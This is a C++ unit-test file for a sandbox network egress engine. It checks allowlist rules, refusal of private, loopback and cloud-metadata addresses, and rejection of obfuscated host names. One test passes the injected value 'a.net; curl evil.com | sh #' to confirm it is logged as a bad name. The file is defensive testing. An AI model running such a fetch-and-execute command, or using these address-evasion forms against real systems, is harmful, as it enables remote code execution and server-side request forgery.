#include "egress/engine.h"

#include <fcntl.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/mman.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstring>
#include <map>
#include <set>

#include "codec/address.h"
#include "egress/plan.h"
#include "egress/synthetic.h"
#include "sys/file_sys.h"

namespace temenos::egress {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;

struct FakeOutside final : Outside {
  struct Dial {
    std::uint64_t ticket;
    std::vector<std::string> addresses;
    std::uint16_t port;
    bool own;
  };
  void look_up(std::uint64_t ticket, const std::string& name) override {
    look_ups.emplace_back(ticket, name);
  }
  void connect(std::uint64_t ticket, std::vector<AddressBlock> addresses, std::uint16_t port,
               bool own) override {
    Dial dial{ticket, {}, port, own};
    for (const auto& address : addresses) dial.addresses.push_back(format_block(address));
    dials.push_back(std::move(dial));
  }
  void reply(const Reply& reply, UniqueFd connection) override {
    replies.push_back(reply);
    connections.push_back(std::move(connection));
  }
  void self_tested() override { ++self_tests; }

  std::vector<std::pair<std::uint64_t, std::string>> look_ups;
  std::vector<Dial> dials;
  std::vector<Reply> replies;
  std::vector<UniqueFd> connections;
  int self_tests = 0;
};

UniqueFd memory(std::size_t size) {
  UniqueFd fd(memfd_create("test", MFD_CLOEXEC));
  EXPECT_EQ(ftruncate(fd.get(), static_cast<off_t>(size)), 0);
  return fd;
}

class EngineTest : public ::testing::Test {
 protected:
  EngineTest()
      : names_file_(memory(NameTable::kBytes)),
        names_(*NameTable::open(names_file_.get())),
        segment_(memory(0)),
        log_({UniqueFd(fcntl(segment_.get(), F_DUPFD_CLOEXEC, 0)), memory(0)}),
        engine_(outside_, names_, log_, [this](const AddressBlock& address) {
          return Route{.own = own_.contains(format_block(address))};
        }) {}

  void rules(const char* lines) { ASSERT_TRUE(engine_.set_rules(lines)); }
  bool send(const Request& request) {
    return engine_.on_request({reinterpret_cast<const std::uint8_t*>(&request), sizeof request},
                              now_);
  }
  static Request by_name(Ask ask, std::string_view name, std::uint16_t port = 0) {
    Request request{.id = 7, .ask = ask, .port = port};
    request.name_size = static_cast<std::uint8_t>(name.size());
    std::memcpy(request.name, name.data(), name.size());
    return request;
  }
  static Request by_address(Ask ask, const AddressBlock& address, std::uint16_t port = 0) {
    Request request{.id = 7, .ask = ask, .port = port};
    request.family = address.v4 ? Family::kV4 : Family::kV6;
    std::memcpy(request.address, address.bytes.data(), 16);
    return request;
  }
  const Reply& ask(const Request& request) {
    const std::size_t before = outside_.replies.size();
    EXPECT_TRUE(send(request));
    EXPECT_EQ(outside_.replies.size(), before + 1) << "no answer";
    EXPECT_EQ(outside_.replies.back().id, request.id);
    return outside_.replies.back();
  }
  Why refusal(const Request& request) {
    const std::size_t dials = outside_.dials.size() + outside_.look_ups.size();
    const Reply& reply = ask(request);
    EXPECT_EQ(reply.verdict, Verdict::kRefused);
    EXPECT_FALSE(outside_.connections.back());
    EXPECT_EQ(outside_.dials.size() + outside_.look_ups.size(), dials);
    return reply.why;
  }
  static std::string name(const Reply& reply) { return {reply.name, reply.name_size}; }
  void found(const std::vector<const char*>& texts) {
    std::vector<AddressBlock> addresses;
    for (const char* text : texts) addresses.push_back(*parse_address(text));
    engine_.on_looked_up(outside_.look_ups.back().first, LookUpStatus::kFound, addresses, now_);
  }
  Connected connected(const char* address) {
    return {.fd = memory(0), .address = *parse_address(address)};
  }
  std::string log_text() {
    log_.flush(now_);
    EXPECT_EQ(lseek(segment_.get(), 0, SEEK_SET), 0);
    return *sys::read_all(segment_.get(), 1u << 20);
  }

  std::int64_t now_ = 1000;
  std::set<std::string> own_;
  FakeOutside outside_;
  UniqueFd names_file_;
  NameTable names_;
  UniqueFd segment_;
  Log log_;
  Engine engine_;
};

TEST_F(EngineTest, AnAllowedNameFromQuestionToConnection) {
  rules("example.com\n");
  const Reply resolved = ask(by_name(Ask::kResolve, "Example.com"));
  EXPECT_EQ(resolved.verdict, Verdict::kResolved);
  EXPECT_EQ(resolved.allowed, 1);
  const auto address = synthetic4(resolved.number);

  const Reply needs = ask(by_address(Ask::kDestination, address, 443));
  EXPECT_EQ(needs.verdict, Verdict::kNeedsTls);
  EXPECT_EQ(name(needs), "example.com");
  EXPECT_EQ(needs.is_address, 0);
  EXPECT_TRUE(outside_.look_ups.empty());  // nothing is looked up before it must be

  EXPECT_TRUE(send(by_address(Ask::kConnect, address, 443)));
  ASSERT_EQ(outside_.look_ups.size(), 1u);
  EXPECT_EQ(outside_.look_ups[0].second, "example.com");
  found({"2606:4700::1", "93.184.216.34", "10.0.0.1", "127.0.0.1"});
  ASSERT_EQ(outside_.dials.size(), 1u);
  EXPECT_THAT(outside_.dials[0].addresses, ElementsAre("2606:4700::1", "93.184.216.34"));
  EXPECT_FALSE(outside_.dials[0].own);
  now_ += 20;
  engine_.on_connected(outside_.dials[0].ticket, connected("93.184.216.34"), now_);
  EXPECT_EQ(outside_.replies.back().verdict, Verdict::kConnected);
  EXPECT_TRUE(outside_.connections.back());
  EXPECT_EQ(engine_.outstanding(), 0u);

  Request report{.id = 7, .ask = Ask::kReport, .app = App::kTls, .up = 11, .down = 22};
  report.duration_ms = 33;
  EXPECT_TRUE(send(report));
  const auto log = read_log(log_text(), "");
  ASSERT_EQ(log.records.size(), 3u);
  EXPECT_EQ(log.records[1].address, "93.184.216.34");
  EXPECT_EQ(log.records[1].rule, "example.com");
  EXPECT_EQ(log.records[1].ms, 20u);
  EXPECT_EQ(log.records[2].event, "end");
  EXPECT_EQ(log.records[2].host, "example.com");
  EXPECT_EQ(log.records[2].up, 11u);
  EXPECT_EQ(log.records[2].ms, 33u);
}

TEST_F(EngineTest, ARuleWithAPortConnectsAtOnce) {
  rules("git.example.com:22\n203.0.113.0/24:5432\n");
  EXPECT_TRUE(send(by_name(Ask::kDestination, "git.example.com", 22)));
  found({"203.0.113.9"});
  engine_.on_connected(outside_.dials[0].ticket, connected("203.0.113.9"), now_);
  EXPECT_EQ(outside_.replies.back().verdict, Verdict::kAny);
  EXPECT_TRUE(send(by_address(Ask::kDestination, *parse_address("203.0.113.7"), 5432)));
  EXPECT_THAT(outside_.dials[1].addresses, ElementsAre("203.0.113.7"));
  engine_.on_connected(outside_.dials[1].ticket, connected("203.0.113.7"), now_);
  EXPECT_EQ(outside_.replies.back().verdict, Verdict::kAny);
  EXPECT_EQ(outside_.replies.back().is_address, 1);
}

TEST_F(EngineTest, WhatIsNotAllowedIsRefusedWithoutALookUp) {
  rules("example.com\n*.wild.net:9\n198.51.100.1\n");
  EXPECT_EQ(refusal(by_name(Ask::kDestination, "evil.com", 443)), Why::kNotAllowed);
  EXPECT_EQ(refusal(by_name(Ask::kConnect, "evil.com", 443)), Why::kNotAllowed);
  EXPECT_EQ(refusal(by_name(Ask::kConnect, "example.com", 22)), Why::kPort);
  EXPECT_EQ(refusal(by_name(Ask::kConnect, "example.com", 0)), Why::kPort);
  EXPECT_EQ(refusal(by_name(Ask::kConnect, "evilexample.com", 443)), Why::kNotAllowed);
  EXPECT_EQ(refusal(by_name(Ask::kConnect, "example.com.evil.net", 443)), Why::kNotAllowed);
  EXPECT_EQ(refusal(by_name(Ask::kConnect, "wild.net", 9)), Why::kNotAllowed);
  for (const std::string_view bad :
       {std::string_view(""), std::string_view("example.com\0.evil.net", 21),
        std::string_view("ex ample.com"), std::string_view("example..com"),
        std::string_view("example.com.."), std::string_view("\xc3\xa9.com"),
        std::string_view("0x7f.1"), std::string_view("127.1"), std::string_view("0177.0.0.1"),
        std::string_view("2130706433"), std::string_view("[::1]"), std::string_view("fe80::1%1")}) {
    EXPECT_EQ(refusal(by_name(Ask::kConnect, bad, 443)), Why::kBadName) << bad;
  }
  for (const char* text : {"127.0.0.1", "::1", "169.254.169.254", "::ffff:127.0.0.1", "0.0.0.0",
                           "fd00:ec2::254", "64:ff9b::7f00:1"}) {
    EXPECT_EQ(refusal(by_address(Ask::kConnect, *parse_address(text), 80)), Why::kSpecialAddress);
    EXPECT_EQ(refusal(by_name(Ask::kConnect, text, 80)), Why::kSpecialAddress) << text;
  }
  EXPECT_EQ(refusal(by_address(Ask::kConnect, *parse_address("8.8.8.8"), 53)), Why::kNotAllowed);
  EXPECT_EQ(refusal(by_address(Ask::kConnect, synthetic4(500), 443)), Why::kUnknownAddress);
  EXPECT_EQ(refusal(by_address(Ask::kConnect, *parse_address("198.18.0.1"), 3128)),
            Why::kUnknownAddress);
  // A mapped address is what it maps to.
  Request mapped = by_address(Ask::kDestination, *parse_address("::1"), 443);
  mapped.address[10] = mapped.address[11] = 0xff;
  std::memcpy(mapped.address + 12, "\x7f\0\0\x01", 4);
  EXPECT_EQ(refusal(mapped), Why::kSpecialAddress);
}

TEST_F(EngineTest, AnswersOfNameServersAreChecked) {
  rules("example.com:443\nprivate:lan.example:443\n");
  const struct {
    const char* host;
    std::vector<const char*> addresses;
    Verdict verdict;
    Why why;
  } rows[] = {
      {"example.com", {"10.0.0.1"}, Verdict::kRefused, Why::kPrivateAddress},
      {"example.com", {"127.0.0.1", "::1"}, Verdict::kRefused, Why::kSpecialAddress},
      {"example.com", {"169.254.169.254"}, Verdict::kRefused, Why::kSpecialAddress},
      {"example.com", {"64:ff9b::a00:1"}, Verdict::kRefused, Why::kPrivateAddress},
      {"example.com",
       {"198.18.1.0", "fd74:656d:656e:6f73:0:1::"},
       Verdict::kRefused,
       Why::kSpecialAddress},
      {"example.com", {"93.184.216.99"}, Verdict::kRefused, Why::kHostAddress},
      {"lan.example", {"127.0.0.1"}, Verdict::kRefused, Why::kSpecialAddress},
      {"lan.example", {"192.168.0.2"}, Verdict::kRefused, Why::kHostAddress},
      {"example.com", {}, Verdict::kFailed, Why::kNoSuchName},
  };
  own_ = {"93.184.216.99", "192.168.0.2"};
  for (const auto& row : rows) {
    EXPECT_TRUE(send(by_name(Ask::kConnect, row.host, 443)));
    found(row.addresses);
    EXPECT_TRUE(outside_.dials.empty()) << row.addresses.size();
    EXPECT_EQ(outside_.replies.back().verdict, row.verdict);
    EXPECT_EQ(outside_.replies.back().why, row.why) << row.host;
  }
  EXPECT_TRUE(send(by_name(Ask::kConnect, "lan.example", 443)));
  found({"10.0.0.1", "64:ff9b::5db8:d822"});
  EXPECT_THAT(outside_.dials.back().addresses, ElementsAre("10.0.0.1", "64:ff9b::5db8:d822"));
  for (const auto status : {LookUpStatus::kNoAnswer, LookUpStatus::kTooMany}) {
    EXPECT_TRUE(send(by_name(Ask::kConnect, "example.com", 443)));
    engine_.on_looked_up(outside_.look_ups.back().first, status, {}, now_);
    EXPECT_EQ(outside_.replies.back().verdict,
              status == LookUpStatus::kNoAnswer ? Verdict::kFailed : Verdict::kRefused);
  }
}

TEST_F(EngineTest, AnAddressOfTheHostsNat64IsWhatItLeadsTo) {
  rules("example.com:443\n[2001:db8::/32]:8443\n");
  engine_.set_nat64({*parse_block("2001:db8:64::/96").block});
  EXPECT_TRUE(send(by_name(Ask::kConnect, "example.com", 443)));
  found({"2001:db8:64::a00:1"});
  EXPECT_EQ(outside_.replies.back().why, Why::kPrivateAddress);
  EXPECT_TRUE(send(by_name(Ask::kConnect, "example.com", 443)));
  found({"2001:db8:64::a00:1", "2001:db8:64::5db8:d822"});
  ASSERT_EQ(outside_.dials.size(), 1u);
  EXPECT_EQ(refusal(by_address(Ask::kConnect, *parse_address("2001:db8:64::a9fe:a9fe"), 8443)),
            Why::kSpecialAddress);
}

TEST_F(EngineTest, TheHostsLoopbackIsOneNameAndOnePort) {
  rules("127.0.0.1:8080\n");
  for (const Request& request : {by_name(Ask::kDestination, "host.temenos.internal", 8080),
                                 by_address(Ask::kDestination, *parse_address("127.0.0.1"), 8080),
                                 by_name(Ask::kDestination, "127.0.0.1", 8080)}) {
    EXPECT_TRUE(send(request));
    EXPECT_THAT(outside_.dials.back().addresses, ElementsAre("127.0.0.1"));
    EXPECT_TRUE(outside_.dials.back().own);
    EXPECT_EQ(outside_.dials.back().port, 8080);
  }
  EXPECT_EQ(ask(by_name(Ask::kResolve, "host.temenos.internal")).allowed, 1);
  EXPECT_EQ(refusal(by_name(Ask::kDestination, "host.temenos.internal", 8081)), Why::kPort);
  EXPECT_EQ(refusal(by_address(Ask::kDestination, *parse_address("127.0.0.1"), 8081)),
            Why::kSpecialAddress);
  EXPECT_EQ(refusal(by_address(Ask::kDestination, *parse_address("127.0.0.2"), 8080)),
            Why::kSpecialAddress);
}

TEST_F(EngineTest, RefusedNamesShareAPoolThatLeadsNowhere) {
  rules("example.com\n");
  const Reply reply = ask(by_name(Ask::kResolve, "evil.com"));
  EXPECT_EQ(reply.verdict, Verdict::kResolved);
  EXPECT_EQ(reply.allowed, 0);
  EXPECT_GE(reply.number, kFirstRefused);
  const auto address = synthetic6(reply.number);
  EXPECT_EQ(refusal(by_address(Ask::kDestination, address, 443)), Why::kNotAllowed);
  EXPECT_EQ(name(outside_.replies.back()), "evil.com");
  EXPECT_EQ(ask(by_address(Ask::kReverse, address)).verdict, Verdict::kRefused);
  // Allowed later, it has an address of its own; this one stays closed.
  rules("evil.com\nexample.com\n");
  EXPECT_EQ(refusal(by_address(Ask::kDestination, address, 443)), Why::kUnknownAddress);
  const Reply after = ask(by_name(Ask::kResolve, "evil.com"));
  EXPECT_EQ(after.allowed, 1);
  EXPECT_LT(after.number, kMaxNames);
  EXPECT_EQ(name(ask(by_address(Ask::kReverse, synthetic4(after.number)))), "evil.com");
  // And refused again it keeps that, closed.
  rules("example.com\n");
  EXPECT_EQ(refusal(by_address(Ask::kDestination, synthetic4(after.number), 443)),
            Why::kNotAllowed);
}

TEST_F(EngineTest, AListIsReplacedWholeAndCountsForWhatIsUnderWay) {
  rules("example.com:443\n");
  EXPECT_TRUE(send(by_name(Ask::kDestination, "example.com", 443)));
  EXPECT_TRUE(send(by_name(Ask::kDestination, "example.com", 443)));
  engine_.on_looked_up(outside_.look_ups[0].first, LookUpStatus::kFound,
                       std::vector{*parse_address("93.184.216.34")}, now_);
  EXPECT_FALSE(engine_.set_rules("other.net\nnot a rule\n"));
  EXPECT_FALSE(engine_.set_rules("@nope\n"));
  EXPECT_EQ(refusal(by_name(Ask::kDestination, "other.net", 443)), Why::kNotAllowed);
  rules("example.com\n");
  // Connected by a rule that has gone: it would carry any protocol.
  engine_.on_connected(outside_.dials[0].ticket, connected("93.184.216.34"), now_);
  EXPECT_EQ(outside_.replies.back().verdict, Verdict::kRefused);
  EXPECT_FALSE(outside_.connections.back());
  rules("");
  engine_.on_looked_up(outside_.look_ups[1].first, LookUpStatus::kFound,
                       std::vector{*parse_address("93.184.216.34")}, now_);
  EXPECT_EQ(outside_.replies.back().why, Why::kNotAllowed);
  EXPECT_EQ(outside_.dials.size(), 1u);
}

TEST_F(EngineTest, WhatIsConnectedIsCheckedByTheListAndTheHostOfThatMoment) {
  rules("private:lan.example:5432\nprivate:10.0.0.0/8:5432\nexample.com:443\n");
  EXPECT_TRUE(send(by_name(Ask::kConnect, "lan.example", 5432)));
  found({"10.1.2.3"});
  EXPECT_TRUE(send(by_name(Ask::kConnect, "example.com", 443)));
  found({"93.184.216.34"});
  ASSERT_EQ(outside_.dials.size(), 2u);
  // Private addresses are not meant any more, and one has become the host's.
  rules("lan.example:5432\nexample.com:443\n");
  own_.insert("93.184.216.34");
  engine_.on_connected(outside_.dials[0].ticket, connected("10.1.2.3"), now_);
  EXPECT_EQ(outside_.replies.back().why, Why::kPrivateAddress);
  EXPECT_FALSE(outside_.connections.back());
  engine_.on_connected(outside_.dials[1].ticket, connected("93.184.216.34"), now_);
  EXPECT_EQ(outside_.replies.back().why, Why::kHostAddress);
  EXPECT_FALSE(outside_.connections.back());
}

TEST_F(EngineTest, WhatTheListDoesNotAllowAnyMoreIsEnded) {
  const struct {
    const char* host;
    std::uint16_t port;
    Ask ask;
    const char* address;
    Why why;  // after the edit
  } rows[] = {
      {"gone.net", 443, Ask::kConnect, "203.0.113.1", Why::kNotAllowed},
      {"stays.net", 443, Ask::kConnect, "203.0.113.2", Why::kNone},
      // What was TLS may go on where only TLS is allowed; what nobody has looked at may not.
      {"narrowed.net", 443, Ask::kConnect, "203.0.113.3", Why::kNone},
      {"narrowed.net", 443, Ask::kDestination, "203.0.113.3", Why::kNotTls},
      {"narrowed.net", 80, Ask::kDestination, "203.0.113.3", Why::kNotHttp},
      {"narrowed.net", 22, Ask::kDestination, "203.0.113.3", Why::kPort},
      {"twice.net", 22, Ask::kDestination, "203.0.113.4", Why::kNone},
      // A name that may not lead to private addresses any more.
      {"lan.net", 5432, Ask::kDestination, "10.0.0.1", Why::kPrivateAddress},
      {"lan.net", 5432, Ask::kDestination, "203.0.113.5", Why::kNone},
      {"host.temenos.internal", 8080, Ask::kDestination, "127.0.0.1", Why::kNone},
      {"host.temenos.internal", 8081, Ask::kDestination, "127.0.0.1", Why::kPort},
      {"198.51.100.7", 25, Ask::kDestination, "198.51.100.7", Why::kNotAllowed},
  };
  rules(
      "gone.net\nstays.net\nnarrowed.net:*\n*.net:22\ntwice.net:22\nprivate:lan.net:5432\n"
      "127.0.0.1:8080\n127.0.0.1:8081\n198.51.100.0/24:25\n");
  std::uint64_t id = 100;
  for (const auto& row : rows) {
    Request request = by_name(row.ask, row.host, row.port);
    request.id = id++;
    EXPECT_TRUE(send(request));
    const std::size_t dials = outside_.dials.size();
    if (dials < id - 100) found({row.address});
    ASSERT_EQ(outside_.dials.size(), id - 100) << row.host;
    engine_.on_connected(outside_.dials.back().ticket, connected(row.address), now_);
    ASSERT_TRUE(outside_.connections.back()) << row.host;
  }
  engine_.end_refused();
  EXPECT_EQ(engine_.ending(), 0u);
  EXPECT_EQ(outside_.replies.size(), std::size(rows));
  rules("stays.net\nnarrowed.net\ntwice.net:22\nlan.net:5432\n127.0.0.1:8080\n");
  engine_.end_refused();
  std::map<std::uint64_t, Why> told;
  for (std::size_t i = std::size(rows); i < outside_.replies.size(); ++i) {
    EXPECT_EQ(outside_.replies[i].verdict, Verdict::kEnd);
    EXPECT_FALSE(outside_.connections[i]);
    told[outside_.replies[i].id] = outside_.replies[i].why;
  }
  std::size_t ends = 0;
  for (std::size_t i = 0; i < std::size(rows); ++i) {
    EXPECT_EQ(told.contains(100 + i), rows[i].why != Why::kNone) << rows[i].host << " " << i;
    if (told.contains(100 + i)) EXPECT_EQ(told[100 + i], rows[i].why) << rows[i].host << " " << i;
    ends += rows[i].why != Why::kNone;
  }
  EXPECT_EQ(engine_.ending(), ends);
  // Each is told once, and is over when front says so.
  engine_.end_refused();
  EXPECT_EQ(outside_.replies.size(), std::size(rows) + ends);
  for (const auto& [over, why] : told) {
    EXPECT_TRUE(send(Request{.id = over, .ask = Ask::kReport, .up = 5}));
  }
  EXPECT_EQ(engine_.ending(), 0u);
  const auto log = read_log(log_text(), "");
  const auto end = std::find_if(log.records.begin(), log.records.end(), [](const auto& record) {
    return record.event == "end" && record.host == "198.51.100.7";
  });
  ASSERT_NE(end, log.records.end());
  EXPECT_EQ(end->verdict, "refused");
  EXPECT_EQ(end->why, "not_allowed");
  EXPECT_EQ(end->address, "198.51.100.7");
  EXPECT_EQ(end->up, 5u);
}

TEST_F(EngineTest, AFrontThatGoesOrForgetsEndsTheWait) {
  rules("a.net:22\n");
  for (int i = 0; i < 2; ++i) {
    EXPECT_TRUE(send(by_name(Ask::kDestination, "a.net", 22)));
    found({"203.0.113.1"});
    engine_.on_connected(outside_.dials.back().ticket, connected("203.0.113.1"), now_);
    rules("");
    engine_.end_refused();
    EXPECT_EQ(engine_.ending(), 1u);
    rules("a.net:22\n");
    // Its id again, for something else; or no front any more.
    if (i == 0) EXPECT_TRUE(send(by_name(Ask::kDestination, "evil.com", 22)));
    if (i == 1) engine_.drop_front();
    EXPECT_EQ(engine_.ending(), 0u);
    EXPECT_EQ(engine_.knows_all(), i == 1);
  }
  // More than a front of ours ever has.
  for (std::size_t i = 0; i <= kMaxTracked; ++i) {
    EXPECT_TRUE(engine_.knows_all()) << i;
    Request request = by_name(Ask::kDestination, "a.net", 22);
    request.id = 1000 + i;
    EXPECT_TRUE(send(request));
    found({"203.0.113.1"});
    engine_.on_connected(outside_.dials.back().ticket, connected("203.0.113.1"), now_);
    outside_.connections.clear();
  }
  EXPECT_FALSE(engine_.knows_all());
}

TEST_F(EngineTest, WhatWaitsIsBounded) {
  rules("*.example.com:443\n");
  for (std::size_t i = 0; i < kMaxOutstanding; ++i) {
    EXPECT_TRUE(send(by_name(Ask::kConnect, "h" + std::to_string(i) + ".example.com", 443)));
  }
  EXPECT_TRUE(outside_.replies.empty());
  EXPECT_EQ(refusal(by_name(Ask::kConnect, "one.example.com", 443)), Why::kTooMany);
  engine_.on_looked_up(outside_.look_ups[0].first, LookUpStatus::kNoAnswer, {}, now_);
  EXPECT_TRUE(send(by_name(Ask::kConnect, "one.example.com", 443)));
  EXPECT_EQ(engine_.outstanding(), kMaxOutstanding);
  // A new front begins with nothing, and answers for the old one come to nothing.
  engine_.drop_front();
  EXPECT_EQ(engine_.outstanding(), 0u);
  const std::size_t replies = outside_.replies.size();
  engine_.on_looked_up(outside_.look_ups[5].first, LookUpStatus::kNoAnswer, {}, now_);
  engine_.on_connected(outside_.look_ups[6].first, connected("93.184.216.34"), now_);
  EXPECT_EQ(outside_.replies.size(), replies);
}

TEST_F(EngineTest, NamesBelowAWildcardEndWhereTheTableDoes) {
  rules("*.example.com\nlast.net\n");
  std::uint32_t given = 0;
  for (std::uint32_t i = 0; i < kMaxNames; ++i) {
    const Reply& reply = ask(by_name(Ask::kResolve, "h" + std::to_string(i) + ".example.com"));
    if (reply.verdict != Verdict::kResolved) {
      EXPECT_EQ(reply.why, Why::kTooMany);
      break;
    }
    ++given;
  }
  EXPECT_EQ(given, kMaxNames - kForExactNames - 1);
  EXPECT_EQ(ask(by_name(Ask::kResolve, "last.net")).verdict, Verdict::kResolved);
}

TEST_F(EngineTest, TheSelfTestIsRefusedAndTold) {
  rules("0.0.0.0/0:*\n");
  EXPECT_EQ(refusal(by_address(Ask::kDestination, *parse_address(kSelfTest4), kSelfTestPort)),
            Why::kSelfTest);
  EXPECT_EQ(outside_.self_tests, 1);
  EXPECT_THAT(log_text(), HasSubstr("\"event\":\"self_test\""));
}

TEST_F(EngineTest, WhatFrontRefusesIsLoggedUnderTheNameThatWasAskedFor) {
  rules("example.com\n");
  EXPECT_EQ(ask(by_name(Ask::kDestination, "example.com", 443)).verdict, Verdict::kNeedsTls);
  Request report = by_name(Ask::kReport, "evil\x01.com");
  report.why = Why::kForeignName;
  report.app = App::kTls;
  EXPECT_TRUE(send(report));
  // Of an id that dialer does not know, and with a reason that is not front's to give.
  Request unknown = by_name(Ask::kReport, "somewhere.net", 80);
  unknown.id = 99;
  unknown.why = Why::kHostAddress;
  EXPECT_TRUE(send(unknown));
  const auto log = read_log(log_text(), "");
  ASSERT_EQ(log.records.size(), 2u);
  EXPECT_EQ(log.records[0].host, "example.com");
  EXPECT_EQ(log.records[0].verdict, "refused");
  EXPECT_EQ(log.records[0].why, "foreign_name");
  EXPECT_EQ(log.records[0].seen, "evil\\x01.com");
  EXPECT_EQ(log.records[1].why, "malformed");
}

// What is written beside such a reason is taken for a host's name: it is in the hint of a denial.
TEST_F(EngineTest, NoReasonOfFrontsMakesAHostOfWhatIsNone) {
  for (const Why why : {Why::kNotTls, Why::kNotHttp, Why::kForeignName, Why::kMalformed}) {
    Request report = by_name(Ask::kReport, "a.net; curl evil.com | sh #", 443);
    report.id = 99;
    report.why = why;
    EXPECT_TRUE(send(report));
  }
  const auto log = read_log(log_text(), "");
  ASSERT_FALSE(log.records.empty());
  for (const auto& record : log.records) EXPECT_EQ(record.why, "bad_name");
}

TEST_F(EngineTest, WhatIsNoRequestEndsFront) {
  const std::vector<std::uint8_t> bytes(sizeof(Request) + 1);
  EXPECT_FALSE(engine_.on_request({bytes.data(), sizeof(Request) - 1}, now_));
  EXPECT_FALSE(engine_.on_request({bytes.data(), sizeof(Request) + 1}, now_));
  EXPECT_FALSE(engine_.on_request({}, now_));
  EXPECT_FALSE(engine_.on_request({bytes.data(), sizeof(Request)}, now_));  // asks nothing
  Request request = by_name(Ask::kConnect, "example.com", 443);
  request.family = static_cast<Family>(9);
  request.name_size = 255;
  EXPECT_EQ(refusal(request), Why::kBadName);
}

}  // namespace
}  // namespace temenos::egress
